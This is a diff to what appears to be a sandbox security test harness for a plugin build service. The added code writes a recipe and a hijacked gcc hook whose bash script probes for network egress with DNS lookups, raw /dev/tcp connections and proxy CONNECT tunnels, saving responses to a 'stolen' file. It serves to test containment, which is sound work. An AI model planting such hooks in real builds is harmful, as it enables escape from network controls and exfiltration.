@@ -176,3 +176,79 @@ def write_repo(dest: Path, attack: str, t: Targets) -> Path:
         source = dest / "src" / f"{PLUGIN}.c"
         source.write_text('#include "stolen.h"\n' + source.read_text())
     return dest
+
+
+# --- egress: a build whose recipe declares a dependency cache (so it gets the container
+# executor's egress proxy) tries every other way out. Not in ATTACKS: it needs that recipe.
+EGRESS = "egress"
+EGRESS_REGISTRY = "repo.maven.apache.org"
+EGRESS_RECIPE = """apiVersion: plugforge.dev/v1alpha1
+kind: Recipe
+broker: mosquitto
+description: a plugin whose build declares Maven to get network
+toolchain: mosquitto-c
+tools: [gcc]
+caches: [maven]
+metadata:
+  name: {file: src/plugin_info.h, pattern: '^#define PLUGIN_NAME "([a-z][a-z0-9_]*)"'}
+  version: {file: src/plugin_info.h, pattern: '^#define PLUGIN_VERSION "([^"]+)"'}
+timeoutSeconds: 120
+build:
+  - argv: [gcc, -B, evil/, -std=gnu11, -O2, -fPIC, -shared, -o, "{name}.so", "src/{name}.c"]
+artifacts:
+  - path: "{name}.so"
+    to: "."
+"""
+
+
+def _egress_body(t: Targets) -> str:
+    """No DNS; a direct connection to each of ``t.ports``; through the proxy a tunnel to each
+    of them, to a host and a port the recipe does not need, and plain HTTP; and one tunnel
+    the recipe does need (``allowed:``), which shows the proxy was there to ask."""
+    a = EGRESS
+    lines = [f"""
+proxy="${{HTTPS_PROXY#http://}}"; phost="${{proxy%:*}}"; pport="${{proxy##*:}}"
+if getent hosts {EGRESS_REGISTRY} >/dev/null 2>&1
+then echo "ATTACK {a}: SUCCEEDED resolved {EGRESS_REGISTRY}"
+else echo "ATTACK {a}: blocked: no DNS (cannot resolve {EGRESS_REGISTRY})"; fi
+ask() {{
+  timeout 6 bash -c 'exec 3<>"/dev/tcp/$0/$1" || exit 9
+    printf "%s\\r\\nHost: x\\r\\n\\r\\n" "$2" >&3
+    IFS= read -r -t 3 status <&3; printf "%s\\n" "$status"; timeout 2 head -c 400 <&3' \\
+    "$phost" "$pport" "$1" 2>&1
+}}"""]
+    for host, port in t.ports:
+        lines.append(
+            f"if timeout 5 bash -c 'exec 3<>\"/dev/tcp/$0/$1\" && timeout 2 head -c 200 <&3' "
+            f"{host} {port} >> \"$stolen\" 2>/dev/null; then echo \"ATTACK {a}: SUCCEEDED "
+            f"connected to {host}:{port}\"; else echo \"ATTACK {a}: blocked: cannot connect "
+            f"directly to {host}:{port}\"; fi")
+    requests = [f"CONNECT {host}:{port} HTTP/1.1" for host, port in t.ports]
+    requests += ["CONNECT example.org:443 HTTP/1.1", f"CONNECT {EGRESS_REGISTRY}:22 HTTP/1.1",
+                 f"GET http://{EGRESS_REGISTRY}/maven2/ HTTP/1.1"]
+    for request in requests:
+        r = shlex.quote(request)
+        lines.append(f"""answer=$(ask {r})
+case "$answer" in
+  "HTTP/1.1 200"*) echo "ATTACK {a}: SUCCEEDED {request}"; printf '%s\\n' "$answer" >> "$stolen";;
+  *) echo "ATTACK {a}: blocked: {request} -> $(printf '%s' "$answer" | head -1)";;
+esac""")
+    lines.append(f"""answer=$(ask {shlex.quote(f"CONNECT {EGRESS_REGISTRY}:443 HTTP/1.1")})
+echo "ATTACK {a}: allowed: CONNECT {EGRESS_REGISTRY}:443 -> $(printf '%s' "$answer" | head -1)"
+""")
+    return "\n".join(lines)
+
+
+def write_egress_repo(dest: Path, t: Targets) -> Path:
+    """A new plugin tree whose complete recipe declares the ``maven`` cache and whose gcc hook
+    runs the egress attack."""
+    scaffold(template_dir("mosquitto-c"), "mosquitto-c", "mosquitto", PLUGIN.replace("_", "-"),
+             dest)
+    hook = _hook("daemon", t).replace(_body("daemon", t), _egress_body(t))
+    for path, content, mode in ((".plugforge/recipe.yaml", EGRESS_RECIPE, 0o644),
+                                (HOOK, hook, 0o755)):
+        target = dest / path
+        target.parent.mkdir(parents=True, exist_ok=True)
+        target.write_text(content)
+        target.chmod(mode)
+    return dest
